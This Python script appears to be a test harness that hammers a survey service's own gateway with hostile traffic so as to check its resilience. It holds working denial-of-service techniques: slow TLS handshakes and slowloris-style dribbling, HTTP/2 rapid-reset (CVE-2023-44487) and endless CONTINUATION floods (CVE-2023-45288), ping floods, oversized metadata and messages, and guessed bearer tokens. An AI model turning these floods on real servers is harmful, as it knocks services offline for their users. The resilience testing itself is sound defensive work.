#!/usr/bin/python3
"""Those who mean no good, or just do not get on: a process of its own that holds connections to a gateway until its stdin is closed.

    hostiles.py connections grpc|http HOST:PORT CA KIND COUNT
    hostiles.py calls HOST:PORT CA SECRET KIND COUNT

Says how many connections or calls it has made, one line of JSON, once they are all there, and again at the end.
"""

import asyncio
import collections
import functools
import json
import os
import pathlib
import resource
import ssl
import struct
import sys

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DRIBBLE_SECONDS = 1.0
# Before whoever was thrown out comes back: not so soon that this process is what takes the machine's time.
PAUSE_SECONDS = 5.0


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
SETTINGS_FRAME = frame(SETTINGS, 0, 0)


def literal(name, value):
    """A header field as HPACK has it when it is in no table."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


REQUEST_HEADERS = b"".join(literal(*field) for field in (
    (b":method", b"POST"), (b":scheme", b"https"), (b":path", b"/peiling.intake.v1.IntakeService/ListSurveys"), (b":authority", b"localhost"),
    (b"content-type", b"application/grpc"), (b"te", b"trailers")))

# The first flight of a TLS handshake, to be broken off or dribbled.
@functools.cache
def client_hello():
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    handshake = ssl.create_default_context().wrap_bio(incoming, outgoing, server_hostname="localhost")
    try:
        handshake.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def resets():
    """Streams that are begun and dropped at once (CVE-2023-44487)."""
    stream = 1
    while True:
        yield b"".join(frame(HEADERS, 4, stream + 2 * i, REQUEST_HEADERS) + frame(RST_STREAM, 0, stream + 2 * i, b"\0\0\0\x08") for i in range(50))
        stream += 100


def endless_headers():
    """Header fields that never end (CVE-2023-45288 and its like)."""
    yield frame(HEADERS, 0, 1, REQUEST_HEADERS)
    while True:
        yield frame(CONTINUATION, 0, 1, literal(b"x-more", b"a" * 100) * 100)


def pings():
    while True:
        yield frame(PING, 0, 0, b"\0" * 8) * 100


# What is sent after the handshake: at once, then a byte at a time, then over and over without a pause.
HTTP_HEAD = b"POST /v1/response-validations HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n"
KINDS = {
    # name: (TLS handshake: none, half, slow or done; bytes at once; bytes that dribble; flood)
    "silent": ("none", b"", b"", None),
    "half_handshake": ("half", b"", b"", None),
    "slow_handshake": ("slow", b"", b"", None),
    "handshake_only": ("done", b"", b"", None),
    "preface_only": ("done", PREFACE, b"", None),
    "settings_only": ("done", PREFACE + SETTINGS_FRAME, b"", None),
    "half_headers": ("done", PREFACE + SETTINGS_FRAME + frame(HEADERS, 0, 1, REQUEST_HEADERS), b"", None),
    "slow_message": ("done", PREFACE + SETTINGS_FRAME + frame(HEADERS, 4, 1, REQUEST_HEADERS), frame(DATA, 0, 1, b"\0") * 1000, None),
    "garbage": ("done", os.urandom(64), b"", None),
    "resets": ("done", PREFACE + SETTINGS_FRAME, b"", resets),
    "endless_headers": ("done", PREFACE + SETTINGS_FRAME, b"", endless_headers),
    "pings": ("done", PREFACE + SETTINGS_FRAME, b"", pings),
    "slow_head": ("done", b"GET /v1/surveys HTTP/1.1\r\nhost: localhost\r\n", b"x-slow: " + b"a" * 10000, None),
    "slow_body": ("done", HTTP_HEAD + b"content-length: 10000\r\n\r\n", b" " * 10000, None),
    "half_body": ("done", HTTP_HEAD + b"content-length: 10000\r\n\r\n{", b"", None),
    "endless_head": ("done", b"GET /v1/surveys HTTP/1.1\r\nhost: localhost\r\n", b"", lambda: iter(lambda: b"x-more: " + b"a" * 1000 + b"\r\n", None)),
    "endless_chunks": ("done", HTTP_HEAD + b"transfer-encoding: chunked\r\n\r\n", b"", lambda: iter(lambda: b"400\r\n" + b" " * 1024 + b"\r\n", None)),
}


class Connections:
    """A number of connections of one kind; whoever is thrown out comes back."""

    def __init__(self, protocol, address, ca, kind, count):
        self.host, port = address.rsplit(":", 1)
        self.port = int(port)
        self.context = ssl.create_default_context(cafile=ca)
        self.context.set_alpn_protocols(["h2"] if protocol == "grpc" else ["http/1.1"])
        self.handshake, self.at_once, self.dribble, self.flood = KINDS[kind]
        self.count = count
        self.figures = {"kind": kind, "wanted": count, "made": 0, "thrown_out": 0, "refused": 0}
        self.places = asyncio.Semaphore(64)  # Handshakes at once.

    async def hold(self):
        while True:
            try:
                async with self.places:
                    reader, writer = await self.connect()
                self.figures["made"] += 1
                await self.misbehave(reader, writer)
                self.figures["thrown_out"] += 1
            except (OSError, ssl.SSLError):
                self.figures["refused"] += 1
            await asyncio.sleep(PAUSE_SECONDS)

    async def connect(self):
        secured = {"ssl": self.context, "server_hostname": "localhost", "ssl_handshake_timeout": 60} if self.handshake == "done" else {}
        return await asyncio.open_connection(self.host, self.port, limit=1 << 14, **secured)

    async def misbehave(self, reader, writer):
        """Until the other side has had enough."""
        reading = asyncio.ensure_future(self.read_to_the_end(reader))
        try:
            hello = client_hello()
            begin = {"none": b"", "half": hello[:len(hello) // 2], "slow": b"", "done": b""}[self.handshake] + self.at_once
            writer.write(begin)
            for byte in hello if self.handshake == "slow" else self.dribble:
                writer.write(bytes([byte]))
                await asyncio.wait([reading], timeout=DRIBBLE_SECONDS)
                if reading.done():
                    return
            for piece in self.flood() if self.flood else ():
                writer.write(piece)
                await writer.drain()
                if reading.done():
                    return
                await asyncio.sleep(0.01)
            await reading
        finally:
            reading.cancel()
            writer.transport.abort()

    async def read_to_the_end(self, reader):
        while await reader.read(1 << 14):
            pass

    async def run(self):
        holders = [asyncio.ensure_future(self.hold()) for _ in range(self.count)]
        await until_closed(lambda: self.figures["made"] + self.figures["refused"] >= len(holders), lambda: self.figures)


class Calls:
    """Calls of somebody with a key, `count` at a time; of those that stay open, as many more each second as are let in."""

    def __init__(self, address, ca, secret, kind, count):
        from grpc import aio, ssl_channel_credentials
        self.aio = aio
        self.address = address
        self.credentials = ssl_channel_credentials(pathlib.Path(ca).read_bytes())
        self.metadata = (("authorization", f"Bearer {secret}"),)
        self.act = getattr(self, kind)
        self.kind = kind
        self.count = count
        self.outcomes = collections.Counter()

    def channel(self):
        return self.aio.secure_channel(self.address, self.credentials, options=[
            ("grpc.use_local_subchannel_pool", 1), ("grpc.max_send_message_length", -1), ("grpc.enable_retries", 0)])

    async def call(self, channel, request, metadata=None):
        """Of a call that anybody with a key may make."""
        call = channel.unary_unary("/peiling.intake.v1.IntakeService/ListSurveys")(request, metadata=metadata or self.metadata, timeout=60)
        self.outcomes[(await call.code()).name] += 1

    async def burst(self, channel):
        await self.call(channel, b"")

    async def bad_credentials(self, channel):
        """Another one each time."""
        await self.call(channel, b"", metadata=(("authorization", f"Bearer peiling_{os.urandom(8).hex()}_{os.urandom(32).hex()[:43]}"),))

    async def giant_metadata(self, channel):
        await self.call(channel, b"", metadata=(*self.metadata, *((f"x-{i}", "a" * 8000) for i in range(100))))

    async def huge_messages(self, channel):
        await self.call(channel, bytes(32 << 20))

    async def unread_streams(self, channel):
        """A watcher that takes nothing in."""
        wave = b"surveys/sociale-wijkteams/waves/2019"
        stream = channel.stream_stream("/peiling.intake.v1.IntakeService/WatchSubmissions")(metadata=self.metadata)
        await stream.write(b"\x0a" + bytes([len(wave)]) + wave)
        await stream.done_writing()
        await self.end_of(stream)

    async def endless_streams(self, channel):
        """Says nothing."""
        await self.end_of(channel.stream_stream("/peiling.validation.v1.ValidationService/StreamValidateResponses")(metadata=self.metadata))

    async def end_of(self, stream):
        self.outcomes["opened"] += 1
        self.outcomes[(await stream.code()).name] += 1

    async def go_on(self, channel):
        while True:
            try:
                await self.act(channel)
            except self.aio.AioRpcError as error:
                self.outcomes[error.code().name] += 1

    async def run(self):
        # Some connections of their own, as one town hall has.
        channels = [self.channel() for _ in range(8)]
        going = [asyncio.ensure_future(self.go_on(channels[i % len(channels)])) for i in range(self.count)]
        await until_closed(lambda: sum(self.outcomes.values()) >= self.count, lambda: {"kind": self.kind, **self.outcomes})


async def until_closed(complete, figures):
    """Says the figures when all is there, or after a minute, and again when stdin is closed; ends the process."""
    for _ in range(600):
        if complete():
            break
        await asyncio.sleep(0.1)
    print(json.dumps(figures()), flush=True)
    await asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
    print(json.dumps(figures()), flush=True)
    os._exit(0)


def main():
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    what, *arguments, count = sys.argv[1:]
    asyncio.run({"connections": Connections, "calls": Calls}[what](*arguments, int(count)).run())


if __name__ == "__main__":
    main()
